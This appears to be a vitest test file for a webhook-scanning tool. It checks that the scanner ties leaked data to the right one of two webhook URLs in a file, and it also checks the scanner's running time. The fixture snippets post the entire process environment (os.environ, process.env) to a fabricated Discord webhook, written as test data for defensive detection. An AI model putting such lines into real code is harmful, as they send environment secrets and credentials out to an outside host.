// Which URL does the sending: in a file with two webhooks, the data a statement sends is evidence
// only for the URL that statement names (issue 13, attribution). Real scanner, fabricated URLs.
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { scan } from '../../src/scan.js';
import { sendsNearEach } from '../../src/detect/context.js';
import { webhook } from '../support/fabricate.js';

const dir = mkdtempSync(join(tmpdir(), 'hookscan-attr-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));

async function scanText(name: string, text: string) {
  writeFileSync(join(dir, name), text);
  const { findings } = await scan({ paths: [join(dir, name)], cwd: dir });
  return findings;
}

describe('attribution of sent data to one of two webhooks', () => {
  it.each([
    ['Discord first', true],
    ['Slack first', false],
  ])('Python, %s: only the Discord webhook is an exfil sink', async (_label, discordFirst) => {
    const slack = webhook('slack').url;
    const discord = webhook('discord').url;
    const defs = [`SLACK = "${slack}"`, `DISCORD = "${discord}"`];
    if (discordFirst) defs.reverse();
    const text = [
      'import os, requests',
      ...defs,
      '',
      'def deploy_done():',
      '    requests.post(SLACK, json={"text": "deploy done"})',
      '',
      'def report():',
      '    requests.post(DISCORD, json={"content": str(os.environ)})',
      '',
    ].join('\n');
    const findings = await scanText(`two-${discordFirst ? 'a' : 'b'}.py`, text);
    const byProvider = Object.fromEntries(findings.map((f) => [f.provider, f]));
    expect(byProvider.slack?.kind).toBe('credential');
    expect(byProvider.discord?.kind).toBe('exfil-sink');
    expect(byProvider.discord?.evidence?.join(' ')).toContain('os.environ');
    expect(byProvider.slack?.evidence ?? []).toEqual([]);
  });

  it('JavaScript: data gathered on one line, sent with the second URL on the next', async () => {
    const slack = webhook('slack').url;
    const discord = webhook('discord').url;
    const text = [
      `const HOOK = '${discord}';`,
      `const NOTIFY = '${slack}';`,
      "await fetch(NOTIFY, { method: 'POST', body: JSON.stringify({ text: 'build ok' }) });",
      'const body = JSON.stringify(process.env);',
      "await fetch(HOOK, { method: 'POST', body });",
      '',
    ].join('\n');
    const findings = await scanText('two.js', text);
    const kinds = Object.fromEntries(findings.map((f) => [f.provider, f.kind]));
    expect(kinds).toEqual({ discord: 'exfil-sink', slack: 'credential' });
  });

  it('a statement that names no URL stays evidence for every URL near it', async () => {
    const a = webhook('discord').url;
    const b = webhook('discord').url;
    const text = `A = "${a}"\nB = "${b}"\nsteal = str(os.environ)\n`;
    const findings = await scanText('shared.py', text);
    expect(findings.map((f) => f.kind)).toEqual(['exfil-sink', 'exfil-sink']);
  });

  it('is linear in the size of a file with many URLs and indicators (N vs 4N)', () => {
    // Blocks of `A = "<url>"` + a line that sends os.environ to it, two URLs alternating, and a
    // one-line variant (no newlines): the attribution looks are bounded in bytes.
    const gen = (n: number, sep: string) => {
      let text = '';
      const spans: { start: number; end: number; secret: string }[] = [];
      for (let i = 0; i < n; i++) {
        const name = i % 2 ? 'HOOK_A' : 'HOOK_B';
        text += `${name} = "`;
        spans.push({ start: text.length, end: text.length + 40, secret: name });
        text += `${'u'.repeat(40)}"${sep}requests.post(${name}, data=str(os.environ))${sep}`;
      }
      return { buf: Buffer.from(text), spans };
    };
    const time = (x: ReturnType<typeof gen>) => {
      const t = process.hrtime.bigint();
      sendsNearEach(x.buf, x.spans);
      return Number(process.hrtime.bigint() - t);
    };
    for (const sep of ['\n', '; ']) {
      const small = gen(4_000, sep);
      const large = gen(16_000, sep);
      time(small);
      // Best of five: on a busy 2-core machine one slow run must not read as quadratic growth.
      const best = (x: ReturnType<typeof gen>) => Math.min(time(x), time(x), time(x), time(x), time(x));
      const ratio = best(large) / best(small);
      expect(ratio, `separator ${JSON.stringify(sep)}`).toBeLessThan(10);
    }
  });
});
